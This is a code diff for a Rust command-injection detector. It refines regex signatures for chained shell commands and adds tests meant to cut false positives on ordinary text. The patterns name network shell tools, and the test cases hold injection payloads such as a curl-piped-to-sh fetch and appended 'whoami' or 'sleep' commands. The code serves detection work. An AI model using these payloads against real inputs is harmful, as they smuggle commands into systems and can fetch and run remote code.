@@ -163,7 +163,14 @@ pub fn command() -> Signature {
         &[
             (
                 "chained_command",
-                r"(;|\||&&?|\|\||`|\$\(|\n)\s*(cat|id|whoami|uname|ls|wget|curl|nc|ncat|bash|sh|ping|sleep|echo|python[23]?|perl|ruby|php|powershell|cmd|net|ifconfig|ip|nslookup|dig|rm|chmod|tftp)\b",
+                r"(\|\|?|&&|`|\$\(|\n)\s*(cat|id|whoami|uname|ls|wget|curl|nc|ncat|bash|sh|ping|sleep|echo|python[23]?|perl|ruby|php|powershell|cmd|net|ifconfig|ip|nslookup|dig|rm|chmod|tftp)\b",
+                3,
+            ),
+            // After `;` or a single `&`, which ordinary text has too ("java & python books"),
+            // a command that is also a word needs an argument that looks like one.
+            (
+                "separated_command",
+                r#"(;|&)\s*((whoami|uname|wget|curl|ncat|bash|echo|powershell|ifconfig|ipconfig|nslookup|chmod|tftp)\b|(cat|id|ls|ping|sleep|python[23]?|perl|ruby|php|cmd|net|ip|dig|rm|sh|nc|type|dir)(\s*$|\s+[-/\\.$'"\d%~]))"#,
                 3,
             ),
             ("shell_path", r"/bin/(ba|z|da)?sh\b|cmd(\.exe)?\s*/c\b", 3),
@@ -445,8 +452,20 @@ mod tests {
                     "$(curl http://x/y.sh|sh)",
                     "a&&ping -c 3 evil",
                     "x;${IFS}ls",
+                    "a & whoami",
+                    "1; sleep 5",
+                    "x;id",
+                    "q & ping -n 3 10.0.0.1",
                 ],
-                &["Tom & Jerry", "price $5", "a|b|c list", "rock;paper;scissors"],
+                &[
+                    "Tom & Jerry",
+                    "price $5",
+                    "a|b|c list",
+                    "rock;paper;scissors",
+                    "java & python books",
+                    "table tennis & ping pong",
+                    "a list; id est the rest",
+                ],
             ),
             (
                 nosql,
